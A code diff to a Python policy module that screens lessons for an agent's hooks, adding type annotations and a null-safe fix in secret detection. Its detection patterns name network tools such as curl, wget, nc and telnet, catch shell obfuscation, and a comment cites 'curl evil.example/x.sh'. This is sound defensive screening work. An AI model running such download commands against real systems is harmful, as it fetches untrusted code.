@@ -43,12 +43,19 @@ hook's import chain); regexes compile on first use. A typical lesson is screened
 this runs where lessons are written, never on a hook's injection path.
 """
 
+from __future__ import annotations
+
 import re
 
 # The policy's version: one integer, kept in policy_version.py so hooks can compare it without
 # importing these rules. BUMP IT whenever a change below can flag a lesson the policy passed before
 # (a rule, KNOWN_HOSTS, the folding, contains_secret): stores then re-screen their active lessons.
 from ..store.policy_version import POLICY_VERSION
+
+TYPE_CHECKING = False  # not `typing.TYPE_CHECKING`: hooks import this module and must not load `typing`
+if TYPE_CHECKING:
+    from collections.abc import Iterable
+    from typing import Any
 
 __all__ = ["KNOWN_HOSTS", "POLICY_VERSION", "concerns", "contains_secret", "hosts", "normalize_hosts", "remote_host"]
 
@@ -75,11 +82,11 @@ class _Lazy:
 
     __slots__ = ("args", "rx")
 
-    def __init__(self, *args) -> None:
+    def __init__(self, *args: Any) -> None:
         self.args = args
-        self.rx = None
+        self.rx: re.Pattern[str] | None = None
 
-    def __getattr__(self, name: str):
+    def __getattr__(self, name: str) -> Any:  # the compiled pattern's attribute
         if self.rx is None:
             self.rx = re.compile(*self.args)
         return getattr(self.rx, name)
@@ -197,7 +204,7 @@ _NEGATED = _Lazy(r"\b(?:never|don't|dont|do\s+not|avoid|instead\s+of|rather\s+th
                       re.IGNORECASE)
 _BARE = _Lazy(r"(?<![\w-])--bare\b")
 _SEGMENT_BREAK = _Lazy(r"[;&|`\n]|\$\(")
-_compiled: list[tuple[str, "re.Pattern[str]"]] | None = None
+_compiled: list[tuple[str, re.Pattern[str]]] | None = None
 
 _URL_HOST = _Lazy(r"\b[a-z][a-z0-9+.-]*://(?:[^@/\s]*@)?(\[[0-9a-f:]+\]|[^/\s:'\"`)>\]?#]+)", re.IGNORECASE)
 _IP = _Lazy(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
@@ -205,7 +212,8 @@ _SSH_HOST = _Lazy(r"\b(?:ssh|scp|sftp|rsync|git)\b[^\n]*?\b[\w.-]+@([\w-]+(?:\.[
 # `curl evil.example/x.sh`: a downloader's bare host argument
 _BARE_HOST = _Lazy(r"\b(?:curl|wget|fetch|http|xh|nc|ncat|telnet)\s+(?:-{1,2}[\w-]+(?:[= ]\S+)?\s+)*"
                         r"([a-z0-9-]+(?:\.[a-z0-9-]+)*\.(?!(?:txt|json|sh|py|tar|gz|tgz|zip|log|md|html?|js|ya?ml|"
-                        r"toml|cfg|ini|xml|csv|whl|deb|rpm|out|tmp|bin|exe)\b)[a-z]{2,})(?=[/:\s\"'`]|$)", re.IGNORECASE)
+                        r"toml|cfg|ini|xml|csv|whl|deb|rpm|out|tmp|bin|exe)\b)[a-z]{2,})(?=[/:\s\"'`]|$)",
+                   re.IGNORECASE)
 
 # Characters that look like Latin letters (Cyrillic, Greek) in words the rules look for.
 _CONFUSABLES = str.maketrans({
@@ -221,14 +229,14 @@ _ENTITIES = {"lt": "<", "gt": ">", "quot": '"', "apos": "'", "amp": "&"}
 _SHELL_NOISE = _Lazy(r"\$\{?IFS\}?|\$'\\x20'")
 
 
-def _rules() -> list[tuple[str, "re.Pattern[str]"]]:
+def _rules() -> list[tuple[str, re.Pattern[str]]]:
     global _compiled
     if _compiled is None:
         _compiled = [(reason, re.compile(rx, re.IGNORECASE | re.MULTILINE)) for reason, rx in _RULES]
     return _compiled
 
 
-def _entity(match: "re.Match[str]") -> str:
+def _entity(match: re.Match[str]) -> str:
     name = match.group(0)[1:-1].lower()
     if name in _ENTITIES:
         return _ENTITIES[name]
@@ -248,7 +256,7 @@ def _folded(text: str) -> str:
     return " ".join(text.split())
 
 
-def normalize_hosts(names) -> frozenset[str]:
+def normalize_hosts(names: Iterable[str] | None) -> frozenset[str]:
     """Exact host names from a trusted-hosts setting: lower case, no trailing dot, one leading
     `www.` dropped. Wildcards and leading dots are kept as written, so they match nothing."""
     out = set()
@@ -281,7 +289,7 @@ def _known(host: str, trusted: frozenset[str]) -> bool:
     return host in KNOWN_HOSTS or host in trusted or host.startswith("127.")
 
 
-def _fires(reason: str, rx: "re.Pattern[str]", text: str) -> bool:
+def _fires(reason: str, rx: re.Pattern[str], text: str) -> bool:
     if reason not in _NEGATABLE:
         return rx.search(text) is not None
     return any(not _NEGATED.search(text, max(0, m.start() - 80), m.start()) for m in rx.finditer(text))
@@ -296,7 +304,7 @@ def _bare_flag(text: str) -> bool:
     return False
 
 
-def concerns(content: str, trusted_hosts=()) -> list[str]:
+def concerns(content: str, trusted_hosts: Iterable[str] = ()) -> list[str]:
     """Why this lesson must not be injected without review; empty when it may be.
 
     `trusted_hosts`: exact host names the user trusts (user-level `learning.trusted_hosts`, the
@@ -343,7 +351,9 @@ def contains_secret(text: str) -> bool:
         after = pieces[i + 1]
         end = text.find(after, pos) if after else len(text)
         value = text[pos:end if end >= 0 else len(text)].strip("'\"` ")
-        key = re.search(r"([\w.-]*)[\W]*$", pieces[i - 1]).group(1).lower()
+        # The trailing word before the secret (the pattern matches every string: `*` on both parts).
+        key_match = re.search(r"([\w.-]*)[\W]*$", pieces[i - 1])
+        key = key_match.group(1).lower() if key_match else ""
         if _credential_like(value) or (_PASSWORD_KEY.search(key) and len(value) >= 6 and " " not in value):
             return True
         pos = (end if end >= 0 else len(text)) + len(after)
